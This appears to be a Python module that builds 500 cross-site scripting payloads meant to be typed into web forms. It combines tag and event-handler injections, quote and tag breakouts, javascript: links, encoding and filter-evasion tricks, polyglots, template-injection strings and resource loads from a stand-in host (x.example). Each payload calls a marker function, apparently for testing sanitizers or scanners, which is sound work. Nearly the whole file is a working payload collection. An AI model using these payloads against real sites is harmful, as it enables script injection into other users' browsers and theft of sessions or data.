"""Five hundred ways to make a browser run something, as somebody would type them into a form.

Each calls `hit(number)`, alone or through whatever it breaks out of; short ones come first, since
names and places hold few letters.
"""

from collections.abc import Iterator

TAGS = ("img", "svg", "body", "iframe", "video", "audio", "input", "details", "object", "math")
EVENTS = {
    "img": "src=x onerror",
    "svg": "onload",
    "body": "onload",
    "iframe": "onload",
    "video": "src=x onerror",
    "audio": "src=x onerror",
    "input": "autofocus onfocus",
    "details": "open ontoggle",
    "object": "data=x onerror",
    "math": "tabindex=1 autofocus onfocus",
}
# What might stand before a text in a page, and is left by it.
BREAKOUTS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</option></select>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</template>",
    "</noscript>",
    '"><!--',
    "'\"></a>",
)
# From within an attribute, with and without quotes.
ATTRIBUTES = (
    '" autofocus onfocus="{code}',
    "' autofocus onfocus='{code}",
    " autofocus onfocus={code} x=",
    '" onmouseover="{code}" style="position:fixed;inset:0',
    '" accesskey="x" onclick="{code}',
    '" onanimationstart="{code}" style="animation:x 1s',
    '" hx-on:load="{code}',
    '" hx-get="javascript:{code}" hx-trigger="load',
    '" data-hx-on="load: {code}',
    '" src="javascript:{code}',
    '" href="javascript:{code}',
    '" formaction="javascript:{code}',
    '" srcdoc="&lt;script&gt;parent.{code}&lt;/script&gt;',
)
LINKS = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "java\tscript:{code}",
    " javascript:{code}",
    "&#106;avascript:{code}",
    "javascript&colon;{code}",
    "data:text/html,<script>parent.{code}</script>",
    "vbscript:{code}",
    "https://x.example/#javascript:{code}",
)
WHOLE = (
    "<script>{code}</script>",
    "<ScRiPt>{code}</sCrIpT>",
    "<script/x>{code}</script>",
    "<script>/*</script><script>*/{code}</script>",
    "<scr<script>ipt>{code}</script>",
    "<script src=data:,{code}></script>",
    "<script type=module>{code}</script>",
    "<base href=//x.example/><script src=x.js></script>",
    "<meta http-equiv=refresh content=0;url=javascript:{code}>",
    "<meta http-equiv=refresh content='0;url=//x.example/{code}'>",
    "<link rel=stylesheet href=//x.example/{code}.css>",
    "<link rel=import href=data:text/html,<script>{code}</script>>",
    "<style>@import'//x.example/{code}'</style>",
    "<style>*{{background:url(//x.example/{code})}}</style>",
    "<form action=javascript:{code}><button autofocus>x</button></form>",
    "<iframe srcdoc='<script>parent.{code}</script>'>",
    "<iframe src=javascript:parent.{code}>",
    "<object data=javascript:{code}></object>",
    "<embed src=javascript:{code}>",
    "<svg><script>{code}</script></svg>",
    "<svg><animate onbegin={code} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{code}><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={code}/>#x'>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={code}></style>",
    "<math href=javascript:{code}>x</math>",
    "<template><script>{code}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={code}>'>",
    "<xmp><p title='</xmp><img src=x onerror={code}>'>",
    "<table background=javascript:{code}>",
    "<marquee onstart={code}>x</marquee>",
    "<select autofocus onfocus={code}>",
    "<textarea autofocus onfocus={code}>",
    "<keygen autofocus onfocus={code}>",
    "<img src=x:x onerror&#61;{code}>",
    "<img src=`x` onerror={code}>",
    "<img/src=x/onerror={code}>",
    "<img\nsrc=x\nonerror\n=\n{code}>",
    "<img src=x onerror=\u2028{code}>",
    "\ufeff<img src=x onerror={code}>",
    "\uff1cimg src=x onerror={code}\uff1e",
    "\u202e<img src=x onerror={code}>",
    "<\u0130mg src=x onerror={code}>",
    "%3Cscript%3E{code}%3C/script%3E",
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;script&#62;{code}&#60;/script&#62;",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{code}\\x3c/script\\x3e",
    "+ADw-script+AD4-{code}+ADw-/script+AD4-",
    "{{{{ {code} }}}}",
    "{{% include {code} %}}",
    "${{{code}}}",
    "#{{{code}}}",
    "{{{{constructor.constructor('{code}')()}}}}",
    "<div hx-on::load={code} hx-get=/ hx-trigger=load>x</div>",
    "<div hx-vals='js:{{x:{code}}}' hx-get=/ hx-trigger=load>x</div>",
    "<div hx-ext=sse sse-connect=//x.example/{code}>x</div>",
    "';{code};//",
    '";{code};//',
    "`-{code}-`",
    "\\';{code};//",
    "</script><script>{code}</script>",
    "*/{code}/*",
    "expression({code})",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={code} )//%0D%0A//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd={code}//>\\x3e",
    "'\"--></style></script><svg onload={code}>",
    "<x onclick={code} id=x tabindex=1>x</x>",
    "<a href=javascript:{code}>x</a>",
    "<a href=javascript&#9;:{code} target=_self>x</a>",
    "<button onclick={code}>Save</button>",
    "<img src=//x.example/{code}>",
    "<img srcset='//x.example/{code} 1x'>",
    "<video poster=//x.example/{code}>",
    "<input type=image src=//x.example/{code}>",
)


def payloads(number: int = 500) -> list[str]:
    """So many of them, all different, the shorter before the longer."""
    made = list(dict.fromkeys(_endless(number)))[:number]
    if len(made) < number:
        raise AssertionError(f"There are only {len(made)} payloads.")
    return sorted(made, key=len)


def _endless(number: int) -> Iterator[str]:
    count = 0
    for breakout in BREAKOUTS:
        for shape in (*WHOLE, *ATTRIBUTES, *LINKS):
            if breakout == "" or shape in WHOLE:
                yield breakout + shape.format(code=f"hit({count})")
                count += 1
        for tag in TAGS:
            yield f"{breakout}<{tag} {EVENTS[tag]}=hit({count})>"
            count += 1
        if count > 2 * number:
            return
